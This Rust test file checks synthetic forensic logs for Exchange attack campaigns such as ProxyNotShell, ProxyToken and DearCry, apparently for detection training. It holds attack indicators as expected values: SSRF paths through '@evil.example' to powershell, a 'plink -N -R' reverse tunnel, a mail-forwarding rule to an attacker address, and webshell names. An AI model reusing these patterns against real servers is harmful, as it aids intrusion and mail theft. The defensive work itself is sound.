//! The telling records of each campaign, by column: what the rules for it can rest on, and what resembles it.

use std::collections::BTreeMap;

use super::{Tree, short, text};
use crate::{Scenario, columns};

/// A record by column.
type Record = BTreeMap<&'static str, String>;

fn tree(scenario: Scenario) -> &'static Tree {
    &short(scenario).1
}

/// Cells of a comma-separated record, quotes undone.
fn cells(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut characters = line.chars().peekable();
    while let Some(character) = characters.next() {
        let cell = cells.last_mut().unwrap();
        match character {
            '"' if quoted && characters.peek() == Some(&'"') => cell.push(characters.next().unwrap()),
            '"' => quoted = !quoted,
            ',' if !quoted => cells.push(String::new()),
            _ => cell.push(character),
        }
    }
    cells
}

fn record(names: &'static str, separator: char, cells: Vec<String>) -> Record {
    let names: Vec<&str> = names.split(separator).collect();
    assert_eq!(names.len(), cells.len(), "{cells:?}");
    names.into_iter().zip(cells).collect()
}

/// All records of an Exchange log.
fn rows(tree: &Tree, part: &str, names: &'static str) -> Vec<Record> {
    let text = text(tree, part);
    text.lines().filter(|line| line.starts_with("20")).map(|line| record(names, ',', cells(line))).collect()
}

/// All records of a site.
fn iis(tree: &Tree, site: &str) -> Vec<Record> {
    let cells = |line: &str| line.split(' ').map(str::to_owned).collect();
    let text = text(tree, site);
    text.lines().filter(|line| line.starts_with("20")).map(|line| record(columns::IIS, ' ', cells(line))).collect()
}

/// Every record has these values: `=` whole, `~` a part.
fn fitting<'a>(records: &'a [Record], wanted: &[(&str, &str)]) -> Vec<&'a Record> {
    let fits = |record: &&Record| {
        wanted.iter().all(|(name, value)| match value.strip_prefix('~') {
            Some(part) => record[name].contains(part),
            None => record[name] == *value,
        })
    };
    records.iter().filter(fits).collect()
}

fn has(records: &[Record], wanted: &[(&str, &str)]) {
    assert!(!fitting(records, wanted).is_empty(), "no record with {wanted:?}");
}

/// Lines of the event export that hold all of these.
fn events<'a>(text: &'a str, wanted: &[&str]) -> Vec<&'a str> {
    text.lines().filter(|line| wanted.iter().all(|part| line.contains(part))).collect()
}

fn has_event(tree: &Tree, wanted: &[&str]) {
    assert!(!events(&text(tree, "EXC01/events.jsonl"), wanted).is_empty(), "no event with {wanted:?}");
}

#[test]
fn proxynotshell_has_a_user_and_no_token() {
    let tree = tree(Scenario::ProxyNotShell);
    let front = iis(tree, "/W3SVC1/");
    let used = fitting(
        &front,
        &[
            ("cs-uri-stem", "/autodiscover/autodiscover.json"),
            ("cs-uri-query", "~@evil.example/"),
            ("sc-status", "200"),
        ],
    );
    assert_eq!(used.len(), 4);
    for request in used {
        assert_eq!(request["cs-username"], r"CONTOSO\luca.keller");
        let query = request["cs-uri-query"].to_lowercase();
        let (before, after) = query.split_once("powershell").unwrap();
        assert!(before.contains('@') && after.contains("autodiscover.json%3f@"), "{query}");
    }
    let back =
        [("cs-uri-stem", "/powershell"), ("s-port", "444"), ("cs-username", r"CONTOSO\EXC01$"), ("sc-status", "200")];
    has(&iis(tree, "/W3SVC2/"), &back);
    let proxy = rows(tree, "/HttpProxy/Autodiscover/", columns::HTTP_PROXY);
    has(&proxy, &[("UrlStem", "/autodiscover/autodiscover.json"), ("HttpStatus", "200"), ("IsAuthenticated", "true")]);
    let remote = rows(tree, "Rps_Http_", columns::RPS_HTTP);
    has(&remote, &[("ClientInfo", "~Chrome/105"), ("AuthenticatedUser", "luca.keller@contoso.example")]);
    assert!(!tree.values().any(|content| String::from_utf8_lossy(content).contains("X-Rps-CAT")));
    has_event(tree, &["\"EventID\":11", r"w3wp.exe", r"owa\\auth\\RedirSuiteServiceProxy.aspx"]);
    assert!(text(tree, "owa/auth/RedirSuiteServiceProxy.aspx").contains("inert sample"));
    // Telephones ask for the same file with the same sign.
    has(&front, &[("cs-uri-query", "~Protocol=Autodiscoverv1"), ("sc-status", "200")]);
}

#[test]
fn owassrf_goes_through_outlook_on_the_web() {
    let tree = tree(Scenario::Owassrf);
    let front = iis(tree, "/W3SVC1/");
    for stem in ["/owa/carla.vogel@contoso.example/powershell", "/owa/carla.vogel%40contoso.example/powershell"] {
        has(&front, &[("cs-method", "POST"), ("cs-uri-stem", stem), ("sc-status", "200")]);
    }
    has(&front, &[("cs-uri-stem", "/owa/mastermailbox%40outlook.com/powershell"), ("sc-status", "401")]);
    has(&front, &[("cs-uri-stem", "/owa/board@contoso.example/"), ("sc-status", "200")]);
    let remote = rows(tree, "Rps_Http_", columns::RPS_HTTP);
    has(&remote, &[("ClientInfo", "~Chrome/104"), ("ClientIpAddress", "203.0.113.140"), ("HttpStatus", "200")]);
    has_event(tree, &["\"EventID\":4688", "w3wp.exe", "plink.exe -N -R"]);
    has_event(tree, &["\"EventID\":7045", "AnyDesk"]);
    assert!(text(tree, "wwwroot/web.config").contains("(?=.*autodiscover)(?=.*powershell)"));
}

#[test]
fn proxytoken_leaves_a_rule_that_sends_mail_outside() {
    let tree = tree(Scenario::ProxyToken);
    let stem = "/ecp/anna.adler@contoso.example/RulesEditor/InboxRules.svc/NewObject";
    let query = ("cs-uri-query", "~SecurityToken=");
    let front = iis(tree, "/W3SVC1/");
    has(&front, &[("cs-method", "POST"), ("cs-uri-stem", stem), query, ("cs-username", "-"), ("sc-status", "500")]);
    has(&iis(tree, "/W3SVC2/"), &[("cs-uri-stem", stem), ("s-port", "444"), ("sc-status", "200")]);
    let proxy = rows(tree, "/HttpProxy/Ecp/", columns::HTTP_PROXY);
    has(&proxy, &[("UrlStem", stem), ("HttpStatus", "500"), ("BackEndStatus", "200"), ("AuthenticatedUser", "")]);
    let audit = rows(tree, "/CosmosQueue/audit/", columns::AUDIT);
    has(
        &audit,
        &[("Operation", "New-InboxRule"), ("Data", "~\"Name\":\"RedirectTo\",\"Value\":\"archive@mail.evil.example\"")],
    );
    has(&audit, &[("Operation", "New-InboxRule"), ("Data", "~MoveToFolder")]);
    let panel = rows(tree, "/ECP/Server/", columns::ECP);
    has(&panel, &[("EventData", "~CMD=New-InboxRule.Name=''1''.RedirectTo=''archive@mail.evil.example''")]);
    let mail = rows(tree, "MessageTracking/MSGTRK2", columns::MESSAGE_TRACKING);
    has(&mail, &[("source", "MAILBOXRULE"), ("recipient-address", "archive@mail.evil.example")]);
    has_event(tree, &["Cmdlet suceeded. Cmdlet New-InboxRule", "RedirectTo"]);
}

#[test]
fn a_view_state_in_the_query_is_answered_500() {
    let tree = tree(Scenario::StaticViewStateKey);
    let front = iis(tree, "/W3SVC1/");
    let wanted = [
        ("cs-method", "GET"),
        ("cs-uri-stem", "/ecp/default.aspx"),
        ("cs-uri-query", "~__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE="),
        ("cs-username", r"CONTOSO\elif.santos"),
        ("sc-status", "500"),
    ];
    let used = fitting(&front, &wanted);
    assert_eq!(used.len(), 4);
    assert!(used.iter().all(|request| request["cs-uri-query"].len() > 1_000));
    let proxy = rows(tree, "/HttpProxy/Ecp/", columns::HTTP_PROXY);
    has(&proxy, &[("UrlQuery", "~__VIEWSTATE="), ("HttpStatus", "500")]);
    has_event(tree, &["MSExchange Control Panel", "\"EventID\":4,", "__VIEWSTATE", "The serialized data is invalid"]);
    has_event(tree, &["MSExchange Control Panel", "\"EventID\":4,", "NullReferenceException"]);
    has_event(tree, &["\"EventID\":1,", "MSExchangeECPAppPool", "cmd.exe", "whoami"]);
    has(&front, &[("cs-uri-stem", "/ecp/default.aspx"), ("cs-uri-query", "~exsvurl=1"), ("sc-status", "200")]);
}

#[test]
fn get_app_fails_for_an_ordinary_user() {
    let tree = tree(Scenario::GetAppDeserialization);
    has_event(
        tree,
        &["\"EventID\":6,", "Cmdlet failed. Cmdlet Get-App, ", "InvalidCastException", "Users/pablo.egger"],
    );
    has_event(tree, &["\"EventID\":8,", "Task Get-App throwing unhandled exception: System.InvalidCastException:"]);
    has_event(tree, &["\"EventID\":6,", "Cmdlet failed. Cmdlet Get-App, ", "ManagementObjectNotFoundException"]);
    let calls = rows(tree, "/Logging/Ews/", columns::EWS);
    let action = ("SoapAction", "CreateUserConfiguration");
    has(&calls, &[action, ("AuthenticatedUser", "pablo.egger@contoso.example"), ("ClientIpAddress", "203.0.113.88")]);
    has_event(tree, &["\"EventID\":4688", "w3wp.exe", "cmd.exe"]);
}

#[test]
fn calendar_probes_are_answered_by_nothing() {
    let tree = tree(Scenario::CalendarProbe);
    let front = iis(tree, "/W3SVC1/");
    let probes = fitting(&front, &[("cs-method", "POST"), ("cs-uri-stem", "~/owa/calendar/a")]);
    assert!(probes.len() >= 3 && probes.iter().all(|probe| probe["sc-status"] != "200"), "{probes:?}");
    has(&front, &[("cs-method", "GET"), ("cs-uri-stem", "~calendar.ics"), ("sc-status", "200")]);
    assert!(!text(tree, "ExchangeSetup.log").contains("locally installed version"));
    assert!(!text(tree, "/HttpProxy/").contains("ServerInfo~"));
}

#[test]
fn dearcry_comes_days_after_the_hole() {
    let tree = tree(Scenario::Dearcry);
    assert!(text(tree, "/HttpProxy/Ecp/").contains("schema=ResetOABVirtualDirectory#"));
    let encrypted: Vec<_> = tree.iter().filter(|(path, _)| path.ends_with(".CRYPT")).collect();
    assert!(encrypted.len() > 3 && encrypted.iter().all(|(_, content)| content.starts_with(b"DEARCRY!")));
    assert!(tree.contains_key("EXC01/C/Users/Public/Desktop/readme.txt"));
    has_event(tree, &["\"EventID\":7045", "\"ServiceName\":\"msupdate\"", "2021-03-09T"]);
    has_event(tree, &["\"EventID\":11,", ".xlsx.CRYPT"]);
}

#[test]
fn black_kingdom_has_its_names() {
    let tree = tree(Scenario::BlackKingdom);
    assert!(tree.keys().any(|path| path.ends_with("owa/auth/ChackLogsPL.aspx")));
    assert!(tree.keys().any(|path| path.ends_with("Desktop/decrypt_file.TxT")));
    has(&iis(tree, "/W3SVC1/"), &[("cs-uri-stem", "/owa/auth/ChackLogsPL.aspx"), ("sc-status", "200")]);
    has_event(tree, &["\"EventID\":11,", "python37.dll"]);
    has_event(tree, &["\"EventID\":22,", "yuuuuu44.com"]);
}

#[test]
fn the_keylogger_stores_what_is_fetched() {
    let tree = tree(Scenario::OwaKeylogger);
    let page = text(tree, "FrontEnd/HttpProxy/owa/auth/logon.aspx");
    assert!(page.contains("function clkLgn()") && page.contains("XMLHttpRequest") && page.contains("INERT"));
    assert!(text(tree, "owa/auth/logon_errors.txt").lines().count() > 50);
    let front = iis(tree, "/W3SVC1/");
    let fetched = fitting(&front, &[("cs-uri-stem", "/owa/auth/logon_errors.txt"), ("sc-status", "200")]);
    assert!(fetched.len() >= 4 && fetched.iter().all(|request| request["c-ip"] == "203.0.113.150"));
}

#[test]
fn ghost_pages_answer_and_have_no_file() {
    let tree = tree(Scenario::Ghostcontainer);
    let front = iis(tree, "/W3SVC1/");
    let ghosts = fitting(&front, &[("cs-uri-stem", "~/owa/auth/lang/cn"), ("sc-status", "200")]);
    let mut clients: Vec<&String> = ghosts.iter().map(|request| &request["c-ip"]).collect();
    clients.sort();
    clients.dedup();
    assert_eq!((ghosts.len(), clients.len()), (24, 2));
    assert!(!tree.keys().any(|path| path.contains("/lang/")));
    has_event(tree, &["ASP.NET 4.0.30319.0", "\"EventID\":1316", "Viewstate verification failed", "203.0.113.171"]);
    has_event(tree, &["\"EventID\":1316", "/intranet/report.aspx"]);
    has_event(tree, &["RdpCoreTS", "\"EventID\":132", "rdp2tcp"]);
}

#[test]
fn a_module_is_installed_by_a_worker_process() {
    let tree = tree(Scenario::IisModule);
    let settings = text(tree, "applicationHost.config");
    assert!(settings.contains(r#"name="HttpFilterModule" image="C:\ProgramData\Microsoft\NetFramework\httpflt.dll""#));
    assert!(settings.contains(r"C:\Program Files\Fabrikam\Endpoint Protection\iisscan64.dll"));
    has_event(tree, &["\"EventID\":4688", "w3wp.exe", "appcmd.exe install module"]);
    let channel = "Microsoft-IIS-Configuration/Operational";
    has_event(tree, &[channel, "\"EventID\":29", "/system.webServer/modules/add", "\"NewValue\":\"HttpFilterModule\""]);
    has_event(tree, &[channel, "\"EventID\":29", "FabrikamWebScan"]);
    assert!(tree.contains_key("EXC01/C/Windows/Temp/creds.db"));
}

#[test]
fn an_agent_is_installed_and_listed() {
    let tree = tree(Scenario::TransportAgent);
    has_event(tree, &["Cmdlet Install-TransportAgent", r"C:\\ProgramData\\Microsoft\\Crypto\\content.check.dll"]);
    has_event(tree, &["Cmdlet Enable-TransportAgent", "Content Check Agent"]);
    has_event(tree, &["Cmdlet Enable-TransportAgent", "Fabrikam Disclaimer"]);
    let cmdlets = rows(tree, "Rps_Cmdlet_", columns::RPS_CMDLET);
    has(
        &cmdlets,
        &[("Cmdlet", "Install-TransportAgent"), ("Parameters", "~-AssemblyPath"), ("ExecutionResult", "Success")],
    );
    let agents = text(tree, "TransportRoles/Shared/agents.config");
    assert_eq!(agents.matches("<agent name=").count(), 7);
    assert!(agents.contains("Content Check Agent") && agents.contains("Fabrikam Disclaimer"));
}

#[test]
fn sunburst_is_on_another_host() {
    let tree = tree(Scenario::SunburstApart);
    let orion = text(tree, "ORION01/events.jsonl");
    let asked = events(&orion, &["\"EventID\":22", ".appsync-api.eu-west-1.avsvmcloud.com", "ORION01.contoso.example"]);
    assert!(asked.len() >= 5, "{}", asked.len());
    assert!(!text(tree, "EXC01/").contains("avsvmcloud"));
    let cmdlets = rows(tree, "Rps_Cmdlet_", columns::RPS_CMDLET);
    for cmdlet in ["New-MailboxExportRequest", "Get-OrganizationConfig", "Remove-MailboxExportRequest"] {
        has(&cmdlets, &[("Cmdlet", cmdlet), ("AuthenticatedUser", "svc.orion"), ("ExecutionResult", "Success")]);
    }
    has(&cmdlets, &[("Parameters", r"~\\FILE01\exports\legal-2020-07.pst"), ("AuthenticatedUser", "it.admin")]);
    let remote = rows(tree, "Rps_Http_", columns::RPS_HTTP);
    has(&remote, &[("ClientIpAddress", "10.20.40.15"), ("ClientInfo", "Microsoft WinRM Client")]);
    assert!(!text(tree, "/HttpProxy/").contains("ServerInfo~"));
}

#[test]
fn a_password_is_found_and_a_mailbox_emptied() {
    let tree = tree(Scenario::StolenPassword);
    let front = iis(tree, "/W3SVC1/");
    let tried = fitting(&front, &[("c-ip", "~203.0.113.20"), ("sc-status", "401"), ("sc-win32-status", "1326")]);
    let mut accounts: Vec<&String> = tried.iter().map(|request| &request["cs-username"]).collect();
    accounts.sort();
    accounts.dedup();
    assert_eq!((tried.len(), accounts.len()), (108, 36));
    let events_text = text(tree, "EXC01/events.jsonl");
    for id in ["\"EventID\":4625", "\"EventID\":4776"] {
        assert!(events(&events_text, &[id]).len() > 108, "{id}");
    }
    has_event(tree, &["\"EventID\":4624", "elif.santos", "198.51.100.61"]);
    let bytes = |records: Vec<&Record>, name: &str| -> u64 {
        records.iter().map(|record| record[name].parse::<u64>().unwrap()).sum()
    };
    let calls = rows(tree, "/Logging/Ews/", columns::EWS);
    let taken = fitting(&calls, &[("ClientIpAddress", "198.51.100.61")]);
    assert!(taken.len() > 90 && bytes(taken, "ResponseSize") > 200_000_000);
    let phones = rows(tree, "/HttpProxy/Eas/", columns::HTTP_PROXY);
    assert!(bytes(fitting(&phones, &[("ClientIpAddress", "198.51.100.61")]), "ResponseBytes") > 20_000_000);
    // The proxy never sees a password that the web server refuses.
    assert!(fitting(&phones, &[("HttpStatus", "401")]).is_empty());
}

#[test]
fn hives_and_logs_of_antivirus_lie_where_they_belong() {
    let tree = tree(Scenario::LeftInRegistry);
    for hive in ["SYSTEM", "SOFTWARE", "SAM"] {
        let bytes = &tree[&format!("EXC01/C/Windows/System32/config/{hive}")];
        assert!(bytes.starts_with(b"regf") && bytes.len().is_multiple_of(4_096), "{hive}");
        // The check sum over the first block, as Windows tests it.
        let words = bytes[..512].chunks_exact(4).map(|word| u32::from_le_bytes(word.try_into().unwrap()));
        assert_eq!(words.fold(0, |sum, word| sum ^ word), 0, "{hive}");
    }
    let log = &tree["EXC01/C/Windows/Debug/msert.log"];
    assert!(log.starts_with(&[0xFF, 0xFE]));
    assert!(!tree.keys().any(|path| path.ends_with("outlookkr.aspx") || path.ends_with("k2mq7dvz.aspx")));
}
